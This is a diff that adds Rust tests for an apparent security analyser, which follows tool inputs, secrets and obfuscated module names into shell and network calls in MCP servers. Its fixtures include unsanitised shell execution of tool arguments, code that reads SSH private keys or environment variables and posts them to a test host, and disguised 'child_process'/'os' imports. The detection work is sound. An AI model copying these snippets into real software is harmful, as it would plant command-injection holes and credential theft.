@@ -1,0 +1,194 @@
+//! Tests of flows, of names in pieces, and of the languages that are read by words.
+
+use super::tests::{read_text, tool_of, view_of};
+use super::*;
+
+/// What reaches the first kept call of a name.
+fn flows_of(path: &str, text: &str, callee: &str) -> Flows {
+    let calls = view_of(path, text).calls;
+    calls.iter().find(|call| call.callee == callee).map(|call| call.flows).unwrap_or_default()
+}
+
+#[test]
+fn a_tools_argument_is_followed_to_where_it_is_used() {
+    let scripts = [
+        "server.tool('a', 'b', { x: z.string() }, async ({ x }) => { exec(`ls ${x}`) })",
+        "server.registerTool(\"a\", { description: `b`, inputSchema: {} }, async (args) => { const { x } = args; const c = 'ls ' + x; exec(c) })",
+        "server.addTool({ name: 'a', description: 'b', execute: async (args) => exec(args.x) })",
+        "s.setRequestHandler(CallToolRequestSchema, async (request) => { const { name, arguments: args } = request.params; exec(args.x.trim()) })",
+        "s.registerTool('a', { description: 'b' }, run); async function run({ x }) { exec(x) }",
+        "function go(x) { exec(x) } s.tool('a', 'b', {}, async ({ x }) => go(x))",
+        "class A { async go(x) { exec(x) } start() { s.tool('a', 'b', {}, async ({ x }) => this.go(x)) } }",
+        "s.tool('a', 'b', {}, async ({ x }) => { for (const y of [x]) exec(y) })",
+    ];
+    for text in scripts {
+        let text = format!("const {{ exec }} = require('child_process');\n{text}");
+        assert!(flows_of("a.js", &text, "child_process.exec").first.any(Origins::TOOL_INPUT), "{text}");
+        assert!(flows_of("a.mts", &text, "child_process.exec").first.any(Origins::TOOL_INPUT), "{text}");
+    }
+    let snakes = [
+        "@mcp.tool()\ndef a(x: str):\n    os.system(f'ls {x}')\n",
+        "@log\n@server.tool(name='a')\nasync def a(x: str, ctx: Context):\n    c = 'ls ' + x\n    os.system(c)\n",
+        "@server.call_tool()\nasync def a(name, arguments):\n    x = arguments['x']\n    os.system('ls %s' % x)\n",
+        "def go(x):\n    os.system(x)\n@mcp.tool\ndef a(x: str):\n    go(x)\n",
+        "class A:\n    def go(self, x):\n        os.system(x)\n    @tool\n    def a(self, x: str):\n        self.go(x)\n",
+    ];
+    for text in snakes {
+        let text = format!("import os\n{text}");
+        assert!(flows_of("a.py", &text, "os.system").first.any(Origins::TOOL_INPUT), "{text}");
+    }
+}
+
+#[test]
+fn what_is_bounded_cleaned_or_another_function_is_not_a_tools_argument() {
+    let scripts = [
+        "s.tool('a', 'b', { x: z.enum(['a']), n: z.number() }, async ({ x, n }) => exec(`ls ${x} ${n}`))",
+        "s.tool('a', 'b', { x: z.string() }, async ({ x }) => exec(`head -n ${parseInt(x)} a`))",
+        "s.tool('a', 'b', { x: z.string() }, async ({ x }) => 1); function other(x) { exec(x) }",
+        "s.tool('a', 'b', { x: z.string() }, async ({ x }) => exec(x.length > 3 ? 'a' : 'b'))",
+    ];
+    for text in scripts {
+        let text = format!("const {{ exec }} = require('child_process');\n{text}");
+        assert!(!flows_of("a.js", &text, "child_process.exec").first.any(Origins::TOOL_INPUT), "{text}");
+    }
+    let snake = "import os, shlex\n@mcp.tool()\ndef a(x: str, n: int):\n    os.system(f'ls {shlex.quote(x)} {n}')\n";
+    assert!(!flows_of("a.py", snake, "os.system").first.any(Origins::TOOL_INPUT));
+    let asked = "const { exec } = require('child_process'); s.tool('a', 'b', {}, async ({ x }) => { if (!/^[a-z]+$/.test(x)) return; exec(`ls ${x}`) })";
+    assert!(flows_of("a.js", asked, "child_process.exec").first.any(Origins::CHECKED));
+}
+
+#[test]
+fn a_short_name_of_one_function_says_nothing_in_another() {
+    let text = "const fs=require('fs');function a(){var e=fs.readFileSync('/root/.ssh/id_rsa');return 1}function b(e){fetch(e)}";
+    assert_eq!(flows_of("bundle.js", text, "fetch").first, Origins::NONE);
+}
+
+#[test]
+fn secrets_and_names_are_followed_to_the_send() {
+    let script = "const os=require('os');const h=os.hostname(),u=os.userInfo().username;fetch('https://a.test',{method:'POST',body:JSON.stringify({h,u})})";
+    assert_eq!(flows_of("a.js", script, "fetch").rest.count(Origins::HOST_NAME | Origins::USER_NAME), 2);
+    let hashed = "const os=require('os'),c=require('crypto');fetch('https://a.test/'+c.createHash('sha256').update(os.hostname()).digest('hex'))";
+    assert!(!flows_of("a.js", hashed, "fetch").first.any(Origins::HOST_NAME));
+    let snake = "import requests\nfor p in ['/home/a/.ssh/id_rsa']:\n    with open(p) as f:\n        requests.post('https://a.test', data=f.read())\n";
+    assert!(flows_of("a.py", snake, "requests.post").rest.any(Origins::SECRET));
+    let loops =
+        "const d=[];for(const[k,v]of Object.entries(process.env))d.push(k+v);fetch('https://a.test/',{body:d.join()})";
+    assert!(flows_of("a.js", loops, "fetch").rest.any(Origins::ENVIRONMENT));
+    let one = "const k=process.env.SERVICE_KEY;fetch('https://a.test/',{headers:{k}})";
+    assert!(!flows_of("a.js", one, "fetch").rest.any(Origins::ENVIRONMENT));
+}
+
+#[test]
+fn names_in_pieces_are_put_together() {
+    for text in [
+        "require('child_' + 'process').exec(x)",
+        "const c = require(['child', 'process'].join('_') && 'child_process'); require('child_process')['ex' + 'ec'](x)",
+        "const c = require('ssecorp_dlihc'.split('').reverse().join('')); c.exec(x)",
+    ] {
+        assert!(view_of("a.js", text).calls.iter().any(|call| call.callee == "child_process.exec"), "{text}");
+    }
+    for text in [
+        "getattr(__import__('o' + 's'), 'sys' + 'tem')(x)",
+        "run = __import__('so'[::-1]).system\nrun(x)",
+        "import os\nf = os.system\nf(x)",
+        "__import__(''.join([chr(111), chr(115)])).system(x)",
+    ] {
+        assert!(view_of("a.py", text).calls.iter().any(|call| call.callee == "os.system"), "{text}");
+    }
+}
+
+#[test]
+fn further_idioms_register_a_tool() {
+    for (path, text) in [
+        (
+            "a.py",
+            "from enum import Enum\nclass Names(str, Enum):\n    ADD = 'add'\nt = Tool(name=Names.ADD, description='Adds', inputSchema={})\n",
+        ),
+        ("a.py", "t = types.Tool('add', 'Ad' 'ds')\n"),
+        ("a.py", "@cached\n@mcp.tool(name=\"add\", description='Adds')\nasync def f(x: int): pass\n"),
+        (
+            "a.ts",
+            "enum Names { ADD = \"add\" } const t = { name: Names.ADD as const, description: \"Adds\", inputSchema: { type: \"object\" } };",
+        ),
+        (
+            "a.tsx",
+            "server.registerTool(\"add\", { title: \"t\", description: `Adds`, inputSchema: {} }, async () => <a/>)",
+        ),
+        ("a.cjs", "const NAME = `add`; const D = 'Adds'; exports.f = (s) => s.tool(NAME, D, {}, async () => ({}))"),
+        (
+            "a.mjs",
+            "s.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: [{ name: \"add\", description: \"Adds\", inputSchema: { type: \"object\", properties: {} } }] }))",
+        ),
+    ] {
+        let tool = tool_of(path, text);
+        assert_eq!((tool.name.as_str(), tool.description.as_deref()), ("add", Some("Adds")), "{text}");
+    }
+}
+
+#[test]
+fn tools_of_other_languages_are_read() {
+    for (path, text) in [
+        (
+            "a.go",
+            "t := mcp.NewTool(\"add\",\n mcp.WithDescription(\"Adds\"),\n mcp.WithString(\"x\", mcp.Description(\"y\")))",
+        ),
+        ("a.go", "var t = mcp.Tool{Name: \"add\", Description: `Adds`}"),
+        ("a.go", "s.AddTool(\"add\", \"Adds\", handler)"),
+        ("a.rs", "#[tool(description = \"Adds\")]\nasync fn add(&self, x: String) -> String { x }"),
+        ("a.rs", "let t = Tool::new(\"add\", \"Adds\", schema);"),
+        ("a.rs", "#[tool(name = \"add\", description = r#\"Adds\"#)]\nfn f<'a>(x: &'a str) {}"),
+        ("A.java", "@Tool(name = \"add\", description = \"Adds\")\npublic int f(int x) { return x; }"),
+        ("A.java", "@McpTool(description = \"Ad\" + \"ds\")\npublic int add(int x) { return x; }"),
+        ("A.java", "var t = Tool.builder().name(\"add\").description(\"Adds\").build();"),
+        ("a.kt", "server.addTool(name = \"add\", description = \"\"\"Adds\"\"\") { 1 }"),
+        ("a.php", "<?php\n#[Tool(name: 'add', description: 'Adds')]\nfunction f() {}"),
+        ("a.php", "<?php $server->registerTool('add', 'Adds', fn() => 1);"),
+        ("a.rb", "tool \"add\", description: \"Adds\" do\nend"),
+        ("A.cs", "[McpServerTool(Name = \"add\"), Description(\"Adds\")]\npublic static int F(int x) => x;"),
+        ("A.cs", "[McpServerTool]\n[Description(\"Adds\")]\npublic static int add(int x) => x;"),
+    ] {
+        let tool = tool_of(path, text);
+        assert_eq!((tool.name.as_str(), tool.description.as_deref()), ("add", Some("Adds")), "{text}");
+    }
+    assert_eq!(view_of("a.go", "// mcp.NewTool(\"add\")\nexec.Command(\"ls\", dir)"), SourceView::default());
+}
+
+#[test]
+fn shells_of_other_languages_are_calls() {
+    let shape =
+        |path: &str, text: &str| view_of(path, text).calls.first().and_then(|call| call.arguments.first().cloned());
+    let composed = |shape: Option<Argument>| matches!(shape, Some(Argument::Composed(_)));
+    assert!(composed(shape("a.go", "exec.Command(\"sh\", \"-c\", \"du \" + dir)")));
+    assert!(composed(shape("a.go", "exec.Command(\"bash\", \"-c\", fmt.Sprintf(\"du %s\", dir))")));
+    assert!(composed(shape("a.rs", "Command::new(\"sh\").arg(\"-c\").arg(format!(\"du {}\", dir))")));
+    assert!(composed(shape("a.php", "<?php shell_exec(\"du $dir\");")));
+    assert_eq!(shape("a.go", "exec.Command(\"sh\", \"-c\", \"ls\")"), Some(Argument::Literal("ls".to_owned())));
+}
+
+#[test]
+fn shallow_files_fit_the_stack_of_whoever_asks() {
+    let pieces =
+        ["(", "[", "{", "!", "a=>", "a?b:", "a+", "typeof ", "`${", "a(", "(a,", "async()=>", "{a:", "function(){"];
+    let work = move || {
+        for piece in pieces {
+            for count in 1..=NEAR_LEVELS {
+                let _ = read_text("a.js", &format!("eval(x);{}", piece.repeat(count)));
+                let _ = read_text("a.ts", &format!("eval(x);{}", piece.repeat(count)));
+                let _ = read_text("a.py", &format!("eval(x)\n{}", piece.repeat(count)));
+            }
+        }
+        let nested =
+            |open: &str, close: &str, count: usize| format!("eval(x);{}1{};", open.repeat(count), close.repeat(count));
+        for count in 1..=NEAR_LEVELS {
+            for (open, close) in
+                [("(", ")"), ("[", "]"), ("f(", ")"), ("(()=>", ")"), ("f(function(){return ", "})"), ("`${", "}`")]
+            {
+                let _ = read_text("a.js", &nested(open, close, count));
+                let _ = read_text("a.tsx", &nested(open, close, count));
+            }
+        }
+    };
+    #[expect(clippy::disallowed_methods, reason = "the test is about the size of a stack")]
+    let thread = std::thread::Builder::new().stack_size(1024 * 1024).spawn(work);
+    assert!(thread.expect("a small stack can be had").join().is_ok());
+}
